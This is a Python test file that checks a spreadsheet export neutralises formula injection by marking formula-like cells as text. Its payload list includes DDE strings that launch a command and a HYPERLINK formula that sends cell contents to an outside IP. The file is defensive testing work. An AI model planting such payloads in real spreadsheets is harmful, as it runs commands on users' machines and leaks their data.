"""A list opened in a spreadsheet holds words; nothing in it is computed, now or after somebody edited a cell."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

from silah.contact import operations as contact
from silah.contact.operations.contacts import Asked
from silah.doors.desk.sheets import workbook
from silah.foundation.kernel import clock
from silah.foundation.tenancy import within
from tests.journey.scene import Scene
from tests.pages import Pages

SRC = Path(__file__).resolve().parents[2] / "src"
FORMULAS = [
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "|cmd", "%0A", "＝1＋1", "－1", "＠A"),
    '=HYPERLINK("http://203.0.113.5/"&A1)',
    "=cmd|'/c calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
HARMLESS = ["نورة", "1447/000001", "0501234567", "", "ا=ب", "«=»"]


def parts(content: bytes) -> tuple[str, str]:
    book = zipfile.ZipFile(io.BytesIO(content))
    return book.read("xl/worksheets/sheet1.xml").decode(), book.read("xl/styles.xml").decode()


def marked(sheet: str, styles: str) -> list[bool]:
    """Of each cell beneath the heading, whether it bears the mark of text."""
    formats = re.findall(r"<xf [^>]*>", styles.split("<cellXfs")[1])
    cells = re.findall(r"<c ([^>]*?)/?>", sheet.split("</row>", 1)[1])
    numbers = [re.search(r's="(\d+)"', cell) for cell in cells]
    return [bool(number and "quotePrefix" in formats[int(number[1])]) for number in numbers]


def test_whatever_could_be_computed_is_marked_as_text_and_kept_as_it_is() -> None:
    answer = workbook("x", ["c"], [[text] for text in (*FORMULAS, *filter(None, HARMLESS))])
    sheet, styles = parts(answer.getvalue())
    assert "<f>" not in sheet
    assert marked(sheet, styles) == [True] * len(FORMULAS) + [False] * len(list(filter(None, HARMLESS)))
    assert "=cmd|'/c calc'!A0" in sheet


def test_a_list_of_the_desk_is_written_so(office: Scene) -> None:
    with within(office.organisation_id):
        contact.log_contact(
            by=office.actor("salma"),
            channel="phone",
            visitor_name="=1+1",
            questions=[Asked("@متى؟", answer="+غدًا")],
            happened_at=clock.now(),
        )
    page = Pages(office.slug).sign_in(office.user("salma")).get("desk/contacts/", export="1")
    sheet, styles = parts(page.response.getvalue())
    assert "=1+1" in sheet
    assert any(marked(sheet, styles))
    assert "<f>" not in sheet


def test_no_other_place_writes_a_spreadsheet() -> None:
    writers = {"xlsxwriter", "openpyxl", "csv", "text/csv", "xlwt", "odf"}
    pattern = re.compile(rf"^\s*(?:import|from) ({'|'.join(map(re.escape, writers))})\b|text/csv", re.M)
    found = [path.name for path in SRC.rglob("*.py") if pattern.search(path.read_text())]
    assert found == ["sheets.py"], "what writes a list elsewhere needs the same care"
